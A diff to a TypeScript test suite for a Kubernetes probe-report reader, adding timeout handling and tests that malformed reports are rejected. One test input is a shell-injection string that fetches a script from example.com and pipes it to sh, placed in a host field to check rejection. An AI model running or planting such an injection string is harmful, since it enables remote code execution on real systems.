@@ -37,6 +37,7 @@ async function serving(body: string, status = 200): Promise<{ port: number; aske
 async function read(
   cluster: Partial<FakeCluster>,
   isInside: boolean,
+  limitMs?: number,
 ): Promise<ViewsFact & { requests: string[] }> {
   const server = await startFakeApi({ lists: {}, ...cluster })
   closing.push(server.close)
@@ -46,7 +47,10 @@ async function read(
     { env: {}, signal, now: Date.now, keepSecret: () => {}, userAgent: 'test', limits: { retryMs: 1 } },
   )
   closing.push(api.close)
-  const found = await readViews(api, { namespace: 'regguard-probes', isInside, signal })
+  const found = await readViews(api, {
+    ...{ namespace: 'regguard-probes', isInside, signal },
+    ...(limitMs === undefined ? {} : { limitMs }),
+  })
   return { ...found, requests: server.requests }
 }
 
@@ -129,4 +133,26 @@ test('an answer without an end or a limit is given up', async () => {
     true,
   )
   expect(found.views[0]?.why).toContain('its report is too large')
+})
+
+test('an answer that trickles in without an end is given up', async () => {
+  const server: Server = createServer((_, response) => {
+    const timer = setInterval(() => response.write(' '), 20)
+    response.once('close', () => clearInterval(timer))
+  })
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
+  closing.push(() => server.close())
+  const { port } = server.address() as AddressInfo
+  const pod = probePodOf({ node: 'node-1', ip: '127.0.0.1', port })
+  const found = await read({ ...podsOf(pod), forbids: (path) => path.includes('/proxy/') }, true, 300)
+  expect(found.views[0]?.why).toMatch(/^127\.0\.0\.1:\d+: no answer/)
+})
+
+test('a run that never ends, and a name that is no host, make no report', async () => {
+  const [leg] = [endpointLeg('ghcr.io', { '203.0.113.1': [answeredAttempt()] })]
+  for (const change of [{ durationMs: 1e300 }, { legs: [{ ...leg, host: "x';curl example.com|sh;'" }] }]) {
+    const { port } = await serving(JSON.stringify({ ...JSON.parse(report), ...change }))
+    const found = await read(podsOf(probePodOf({ node: 'node-1', ip: '127.0.0.1', port })), true)
+    expect(found.views[0]?.why).toBe('what it serves is no report of regguard')
+  }
 })
